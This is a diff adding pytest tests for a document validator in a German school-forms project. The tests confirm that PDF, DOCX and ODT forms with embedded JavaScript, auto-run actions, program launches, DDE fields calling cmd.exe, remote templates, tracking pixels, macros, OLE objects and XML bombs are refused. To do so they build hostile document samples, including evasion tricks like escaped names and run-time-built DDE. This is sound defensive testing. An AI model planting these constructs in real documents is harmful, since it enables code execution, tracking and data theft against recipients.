@@ -3,14 +3,19 @@ from __future__ import annotations
 
 import datetime
 import io
+import os
 import shutil
+import subprocess
+import sys
 import zipfile
 from pathlib import Path
 
 import pytest
 from pypdf import PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject
 
-from conftest import DATA
+import feindlich
+from conftest import DATA, ROOT
 from helpers import line_of, only, problems, replace
 from schulerfolg import filecheck
 from schulerfolg.filecheck import dateigroesse, document_date, document_problem
@@ -245,3 +250,235 @@ def test_without_stand_the_date_comes_from_the_documents_themselves(data_copy):
     daten = load(data_copy, datetime.date(2026, 3, 1)).daten
     assert daten.plus.formulare[0].stand is None
     assert formulargruppen(Context(daten, datetime.date(2026, 3, 1)))[0].stand_text == "15. Januar 2026"
+
+
+# --- what a form may contain: nothing that runs, fetches or sends by itself ------------------------
+
+PDF_FIX = "Speichern Sie das Formular ohne diese Teile neu, z. B. mit »Exportieren als PDF« im Textprogramm."
+
+
+def _problem_at(data: Path, rel: str) -> str:
+    """The start of the problem for ``rel`` in plus.yml, with line and column."""
+    line = _line(data, rel)
+    col = (data / "plus.yml").read_text(encoding="utf-8").splitlines()[line - 1].index(rel) + 1
+    return f"data/plus.yml:{line}:{col}: Die Datei »data/{rel}« "
+
+
+def _js(code: str = "app.alert(1);") -> DictionaryObject:
+    return feindlich.aktion(S="/JavaScript", JS=code)
+
+
+@pytest.mark.parametrize("aendern, enthaelt", [
+    (feindlich.im_katalog("Names", feindlich.woerterbuch(JavaScript=feindlich.woerterbuch(
+        Names=ArrayObject([TextStringObject("Start"), _js("app.alert('Hallo');")])))), "JavaScript (Programmcode)"),
+    (feindlich.im_katalog("OpenAction", _js()),
+     "JavaScript (Programmcode) und eine Aktion, die beim Öffnen von selbst startet"),
+    (feindlich.im_katalog("OpenAction", feindlich.aktion(S="/Named", N="/Print")),
+     "eine Aktion, die beim Öffnen von selbst startet"),
+    (feindlich.auf_der_seite("AA", feindlich.woerterbuch(O=feindlich.aktion(S="/Named", N="/NextPage"))),
+     "Aktionen, die von selbst starten, z. B. beim Ausfüllen eines Feldes"),
+    (feindlich.textfeld(AA=feindlich.woerterbuch(K=_js("AFNumber_Keystroke(2);"))),
+     "JavaScript (Programmcode) und Aktionen, die von selbst starten, z. B. beim Ausfüllen eines Feldes"),
+    (feindlich.mit_link(feindlich.aktion(S="/Launch", F="C:\\Windows\\System32\\calc.exe")),
+     "einen Befehl, der ein anderes Programm startet"),
+    (feindlich.mit_link(feindlich.aktion(S="/SubmitForm", F="https://fremd.example/sammeln")),
+     "eine Aktion, die Eingaben an einen Server sendet"),
+    (feindlich.mit_link(feindlich.aktion(S="/ImportData", F="daten.fdf")),
+     "eine Aktion, die Daten aus einer anderen Datei einliest"),
+    (feindlich.mit_link(feindlich.aktion(S="/GoToR", F="anderes.pdf", D="/Seite1")),
+     "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"),
+    (feindlich.mit_link(feindlich.aktion(S="/GoToE", D="/Seite1")),
+     "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"),
+    (feindlich.mit_link(feindlich.aktion(S="/URI", URI="file:///C:/geheim.txt")),
+     "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"),
+    (feindlich.mit_link(feindlich.aktion(S="/URI", URI="javascript:alert(1)")), "JavaScript (Programmcode)"),
+    (lambda w: w.add_attachment("liste.xlsx", b"geheim"), "eingebettete Dateien (Anhänge oder Multimedia)"),
+    (feindlich.auf_der_seite("Annots", ArrayObject([feindlich.woerterbuch(Type="/Annot", Subtype="/FileAttachment")])),
+     "eingebettete Dateien (Anhänge oder Multimedia)"),
+    (feindlich.auf_der_seite("Annots", ArrayObject([feindlich.woerterbuch(Type="/Annot", Subtype="/RichMedia")])),
+     "eingebettete Dateien (Anhänge oder Multimedia)"),
+    (feindlich.im_katalog("AcroForm", feindlich.woerterbuch(XFA="<xdp:xdp/>")),
+     "ein XFA-Formular, das Programmcode enthalten kann"),
+], ids=["javascript", "openaction-js", "openaction", "aa", "feld-js", "launch", "submitform", "importdata", "gotor",
+        "gotoe", "uri-datei", "uri-javascript", "anhang", "fileattachment", "richmedia", "xfa"])
+def test_pdf_that_runs_fetches_or_sends_something_is_refused(data_copy, aendern, enthaelt):
+    (data_copy / ANTRAG).write_bytes(feindlich.pdf(aendern))
+    assert only(problems(data_copy)) == f"{_problem_at(data_copy, ANTRAG)}enthält {enthaelt}. {PDF_FIX}"
+
+
+@pytest.mark.parametrize("aendern", [
+    feindlich.textfeld(),  # fillable forms are welcome (a later issue makes ours fillable)
+    feindlich.mit_link(feindlich.aktion(S="/URI", URI="https://www.dessau-rosslau.de/")),
+    feindlich.mit_link(feindlich.aktion(S="/URI", URI="mailto:schulerfolg@example.org")),
+    feindlich.im_katalog("OpenAction", feindlich.aktion(S="/GoTo", D="/Seite1")),  # "open at page 1"
+], ids=["textfeld", "weblink", "mailto", "openaction-seite"])
+def test_pdf_with_fields_links_and_a_start_page_is_fine(data_copy, aendern):
+    (data_copy / ANTRAG).write_bytes(feindlich.pdf(aendern))
+    assert problems(data_copy) == []
+
+
+def test_sample_pdfs_open_at_a_page_which_is_fine():
+    """LibreOffice writes »/OpenAction [page /XYZ …]« into every PDF: a destination, not an action."""
+    from pypdf import PdfReader
+
+    katalog = PdfReader(DATA / ANTRAG).trailer["/Root"]
+    assert isinstance(katalog["/OpenAction"], ArrayObject)
+    assert document_problem(DATA / ANTRAG) is None
+
+
+OEFFNEN = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
+
+
+@pytest.mark.parametrize("objekte, katalog, enthaelt", [
+    # a name written with #-escapes: /J#53 is /JS
+    ((b"<< /Type /Action /S /J#61vaScript /J#53 (app.alert(1)) >>",), OEFFNEN,
+     "JavaScript (Programmcode) und eine Aktion, die beim Öffnen von selbst startet"),
+    # the action's type behind a reference
+    ((b"<< /Type /Action /S 5 0 R /F (calc.exe) >>", b"/Launch"), OEFFNEN,
+     "eine Aktion, die beim Öffnen von selbst startet und einen Befehl, der ein anderes Programm startet"),
+    # an object no page uses: a viewer that repairs the file may still find it
+    ((b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",), b"<< /Type /Catalog /Pages 2 0 R >>",
+     "JavaScript (Programmcode)"),
+], ids=["name-escapes", "referenz", "verwaist"])
+def test_hidden_actions_are_found(data_copy, objekte, katalog, enthaelt):
+    (data_copy / ANTRAG).write_bytes(feindlich.roh_pdf(*objekte, katalog=katalog))
+    assert only(problems(data_copy)) == f"{_problem_at(data_copy, ANTRAG)}enthält {enthaelt}. {PDF_FIX}"
+
+
+def test_a_repaired_pdf_leaves_no_english_lines_on_the_terminal(data_copy):
+    """pypdf logs its repairs (»EOF marker not found«); the check prints only its own German message."""
+    (data_copy / ANTRAG).write_bytes(b"%PDF-1.4 kaputt")
+    out = subprocess.run([sys.executable, "-m", "schulerfolg", "--data", str(data_copy), "check"], capture_output=True,
+                         text=True, env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
+    assert out.returncode == 1 and "ist ein beschädigtes PDF" in out.stdout
+    assert out.stderr == ""
+
+
+def test_the_hand_written_pdf_is_a_good_form_without_script(data_copy):
+    """Guard for the test above: the same bytes without the script are accepted."""
+    (data_copy / ANTRAG).write_bytes(feindlich.roh_pdf(b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>",
+                                                       katalog=OEFFNEN))
+    assert problems(data_copy) == []
+
+
+DOCX = "formulare/plus-antrag.docx"
+ODT = "formulare/plus-antrag.odt"
+RELS = "word/_rels/document.xml.rels"
+VERWEIS = "Verweise auf andere Dateien oder Server, z. B. eine verknüpfte Vorlage oder ein verknüpftes Bild"
+OBJEKT = "eingebettete Objekte (OLE-Objekte, ActiveX-Steuerelemente oder andere Dokumente)"
+MAKROS = "Makros oder Skripte (Programmcode)"
+W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+
+
+def _feld(*teile: str) -> str:
+    """A Word field whose instruction is written in several runs, as Word does."""
+    runs = "".join(f"<w:r><w:instrText xml:space=\"preserve\">{t}</w:instrText></w:r>" for t in teile)
+    return (f'<w:p {W}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
+            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+@pytest.mark.parametrize("teile, enthaelt", [
+    ({"word/_rels/settings.xml.rels": b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+      b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+      b'Target="https://fremd.example/vorlage.dotm" TargetMode="External"/></Relationships>'}, VERWEIS),
+    ({RELS: feindlich.beziehung("image", "https://tracker.example/pixel.png")}, VERWEIS),
+    ({RELS: feindlich.beziehung("subDocument", "file:///C:/akten/teil2.docx")}, VERWEIS),
+    ({RELS: feindlich.beziehung("frame", "https://fremd.example/")}, VERWEIS),
+    ({RELS: feindlich.beziehung("hyperlink", "file://server/freigabe/liste.xlsx")}, VERWEIS),
+    ({"word/document.xml": feindlich.im_text(_feld(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "))}, VERWEIS),
+    ({"word/document.xml": feindlich.im_text(f'<w:p {W}><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d "/></w:p>')}, VERWEIS),
+    ({RELS: feindlich.beziehung("oleObject", "embeddings/oleObject1.bin", extern=False),
+      "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, OBJEKT),
+    ({"word/document.xml": feindlich.im_text(f'<w:altChunk {W} r:id="rIdX" xmlns:r="{feindlich.REL[:-1]}"/>')}, OBJEKT),
+    ({"word/activeX/activeX1.xml": b"<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"}, OBJEKT),
+    ({"word/vbaProject.bin": b"\x00" * 64}, MAKROS),
+    ({"[Content_Types].xml": feindlich.einfuegen(b"</Types>", b'<Override PartName="/word/document.xml" '
+      b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')}, MAKROS),
+    ({"word/document.xml": feindlich.im_text(_feld(" MACROBUTTON Start Hier klicken "))}, MAKROS),
+], ids=["vorlage", "bild", "teildokument", "frame", "link-auf-datei", "dde", "includepicture", "ole", "altchunk",
+        "activex", "vbaproject", "macroenabled", "macrobutton"])
+def test_docx_with_macros_external_references_or_objects_is_refused(data_copy, teile, enthaelt):
+    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, teile))
+    assert only(problems(data_copy)) == (f"{_problem_at(data_copy, DOCX)}enthält {enthaelt}. Speichern Sie das "
+                                         "Formular ohne diese Teile als normales DOCX-Dokument.")
+
+
+def test_docx_with_an_ordinary_link_is_fine(data_copy):
+    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {
+        RELS: feindlich.beziehung("hyperlink", "https://www.dessau-rosslau.de/"),
+        "word/document.xml": feindlich.im_text(_feld(" PAGE ")),
+    }))
+    assert problems(data_copy) == []
+
+
+def test_a_field_whose_name_another_field_makes_is_refused(data_copy):
+    """{ {QUOTE 68 68 69} … }: Word would build »DDE« at run time."""
+    innen = _feld(" QUOTE 68 68 69 ").replace(f'<w:p {W}>', "").replace("</w:p>", "")
+    aussen = (f'<w:p {W}><w:r><w:fldChar w:fldCharType="begin"/></w:r>{innen}'
+              '<w:r><w:instrText> c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:r>'
+              '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {"word/document.xml": feindlich.im_text(aussen)}))
+    assert f"enthält {VERWEIS}." in only(problems(data_copy))
+
+
+@pytest.mark.parametrize("xml", [
+    feindlich.BILLION_LAUGHS,
+    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY name "Antrag">]><w:document ' + W.encode()
+    + b"><w:body><w:p><w:r><w:t>&name;</w:t></w:r></w:p></w:body></w:document>",
+], ids=["billion-laughs", "dtd"])
+def test_a_document_with_a_dtd_costs_nothing_and_is_refused(data_copy, xml):
+    """Word and LibreOffice never write a DTD; it is how XML bombs and external entities get in. defusedxml
+    refuses it before expanding anything."""
+    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {"word/document.xml": xml}))
+    assert only(problems(data_copy)) == (f"{_problem_at(data_copy, DOCX)}ist beschädigt und lässt sich nicht öffnen. "
+                                         "Speichern Sie das Formular neu.")
+
+
+@pytest.mark.parametrize("teile, enthaelt", [
+    ({"content.xml": feindlich.im_odt_text('<text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
+                                           'language=Basic&amp;location=document">Start</text:a></text:p>')}, MAKROS),
+    ({"content.xml": feindlich.einfuegen(b"<office:body>", b'<office:scripts><office:script '
+      b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" script:language="ooo:Basic"/></office:scripts>')},
+     MAKROS),
+    ({"content.xml": feindlich.im_odt_text('<office:event-listeners><script:event-listener script:language="ooo:script" '
+                                           'script:event-name="dom:load" xlink:href="https://fremd.example/"/>'
+                                           '</office:event-listeners>')}, MAKROS),
+    ({"Basic/Standard/Module1.xml": b"<script/>"}, MAKROS),
+    ({"content.xml": feindlich.im_odt_text('<text:p><draw:frame><draw:image xlink:href="https://tracker.example/p.png"/>'
+                                           '</draw:frame></text:p>')}, VERWEIS),
+    ({"content.xml": feindlich.im_odt_text('<text:section-source xlink:href="file:///C:/akten/teil2.odt"/>')}, VERWEIS),
+    ({"content.xml": feindlich.im_odt_text('<text:p><text:a xlink:href="../interne/liste.ods">Liste</text:a></text:p>')},
+     VERWEIS),
+    ({"meta.xml": feindlich.einfuegen(b"</office:meta>", b'<meta:template xmlns:xlink="http://www.w3.org/1999/xlink" '
+      b'xlink:href="file:///S:/vorlagen/antrag.ott" xlink:title="Antrag"/>')}, VERWEIS),
+    ({"content.xml": feindlich.im_odt_text('<text:p><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame></text:p>'),
+      "Object 1/content.xml": b"<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'/>"},
+     OBJEKT),
+    ({"content.xml": feindlich.im_odt_text('<text:p><draw:frame><draw:object-ole xlink:href="./Object 2"/></draw:frame></text:p>')},
+     OBJEKT),
+], ids=["makro-link", "basic-in-content", "ereignis", "basic-ordner", "bild-extern", "bereich-verknuepft", "link-auf-datei",
+        "vorlage", "objekt", "ole"])
+def test_odt_with_macros_external_references_or_objects_is_refused(data_copy, teile, enthaelt):
+    (data_copy / ODT).write_bytes(feindlich.zip_mit(DATA / ODT, teile))
+    assert only(problems(data_copy)) == (f"{_problem_at(data_copy, ODT)}enthält {enthaelt}. Speichern Sie das "
+                                         "Formular ohne diese Teile als normales ODT-Dokument.")
+
+
+def test_odt_with_ordinary_links_and_an_empty_script_list_is_fine(data_copy):
+    """LibreOffice writes an empty <office:scripts/> into every document it saves."""
+    (data_copy / ODT).write_bytes(feindlich.zip_mit(DATA / ODT, {
+        "content.xml": lambda alt: feindlich.im_odt_text(
+            '<text:p><text:a xlink:href="https://www.dessau-rosslau.de/">Stadt</text:a> '
+            '<text:a xlink:href="mailto:schulerfolg@example.org">E-Mail</text:a> '
+            '<text:a xlink:href="#Ziele">Ziele</text:a></text:p>')(
+            feindlich.einfuegen(b"<office:body>", b"<office:scripts/>")(alt)),
+    }))
+    assert problems(data_copy) == []
+
+
+def test_several_findings_are_named_together(data_copy):
+    (data_copy / DOCX).write_bytes(feindlich.zip_mit(DATA / DOCX, {
+        RELS: feindlich.beziehung("image", "https://tracker.example/pixel.png"), "word/vbaProject.bin": b"\x00"}))
+    assert only(problems(data_copy)).endswith(f"enthält {MAKROS} und {VERWEIS}. Speichern Sie das Formular ohne diese "
+                                              "Teile als normales DOCX-Dokument.")
